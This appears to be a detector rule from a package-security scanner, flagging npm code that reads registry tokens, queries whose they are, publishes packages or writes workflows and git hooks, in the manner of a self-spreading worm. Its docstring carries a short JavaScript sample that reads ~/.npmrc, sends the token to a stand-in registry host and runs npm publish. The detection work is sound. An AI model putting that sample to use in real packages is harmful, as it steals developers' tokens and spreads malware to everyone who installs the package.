"""Packages are published with tokens found on the machine, or workflows are planted.

*What it does*

Counts the signs of a worm in one file: a command that publishes, addresses of a registry that tell whose a token is
and which packages are theirs, reading the tokens of npm, and writing workflows or git hooks. One sign is enough on
installation if it publishes; otherwise two must come together. Tools for releases, which are commands that the user
calls, count little.

*Why it matters*

A worm of 2025 published itself from every machine that installed it, within hours into hundreds of packages.

*Example*

    const cp = require("child_process"), fs = require("fs"), os = require("os");
    const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
    fetch("https://registry.example/-/whoami", { headers: { authorization: token } });
    cp.execSync("npm publish --access public");
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._acts import Act, Weight, acts, first_of_each_file, when
from assay.detectors.source._flows import runs_on_install
from assay.javascript.alarms import PUBLISH_COMMAND, TOKEN_ADDRESS, WORKFLOW_PATH
from assay.model.finding import Evidence, Finding, finding
from assay.model.rule import Concern, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="self-publishing",
    title="Publishes packages with the tokens of its host",
    severity=Severity.CRITICAL,
    concern=Concern.MALICE,
    advice="Do not install or run it. If it has run, remove what it left, then replace your tokens.",
    techniques=("T1195.002", "T1552.001", "T1078"),
)
_WEIGHT = Weight(on_install=Severity.CRITICAL, when_used=Severity.HIGH, by_command=Severity.LOW)
_SIGNS = (
    ("publishes", frozenset({BehaviourKind.PROCESS}), PUBLISH_COMMAND),
    ("asks whose a token is", frozenset({BehaviourKind.NETWORK}), TOKEN_ADDRESS),
    (
        "writes workflows or git hooks",
        frozenset({BehaviourKind.FILE_WRITE, BehaviourKind.PROCESS, BehaviourKind.NETWORK}),
        WORKFLOW_PATH,
    ),
)


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each file that has enough signs."""
    by_file: dict[str, dict[str, Act]] = {}
    for what, kinds, pattern in _SIGNS:
        for act in first_of_each_file(acts(subject, kinds, pattern)):
            by_file.setdefault(act.file.path, {})[what] = act
    for signs in by_file.values():
        first = next(iter(signs.values()))
        reads = [each for each in first.file.behaviours if each.kind is BehaviourKind.CREDENTIAL_READ]
        is_enough = len(signs) + bool(reads) > 1 or ("publishes" in signs and runs_on_install(first.file))
        if not is_enough:
            continue
        severity, confidence = _WEIGHT.of(first.file)
        yield finding(
            RULE,
            f"{subject.ref} {' and '.join(signs)} {when(first.file)}",
            *(act.evidence(f"{act.behaviour.detail} {what}") for what, act in signs.items()),
            *(Evidence(f"{each.detail} reads credentials", each.location) for each in reads[:1]),
            severity=severity,
            confidence=confidence,
        )
